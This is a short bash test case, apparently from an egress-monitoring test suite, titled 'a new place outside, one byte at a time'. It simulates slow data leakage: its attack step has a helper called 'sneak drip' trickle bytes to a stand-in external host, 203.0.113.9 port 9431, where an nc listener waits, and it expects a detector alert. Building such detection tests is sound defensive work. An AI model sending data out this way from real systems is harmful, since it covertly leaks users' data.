# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='a new place outside, one byte at a time'
case_class=A
case_prepare() {
	lab_in outside sh -c 'while :; do timeout 60 nc -l -k -p 9431 >/dev/null </dev/null; done' >/dev/null 2>&1 &
	lab_defer kill $!
	run app -v "$LAB_BUILD/tests/helpers/sneak:/usr/local/bin/sneak:ro" pg-many sh -c 'node /srv/node/app.js & while sleep 0.7; do sneak drip 127.0.0.1 3000 2; done'
}
case_benign() { in_ app sneak drip 127.0.0.1 3000 20; }
case_attack() { in_ app sneak drip 203.0.113.9 9431 20; return 0; }
case_expect='egress.new A30peer-app /usr/local/bin/sneak ext:203.0.113.9'
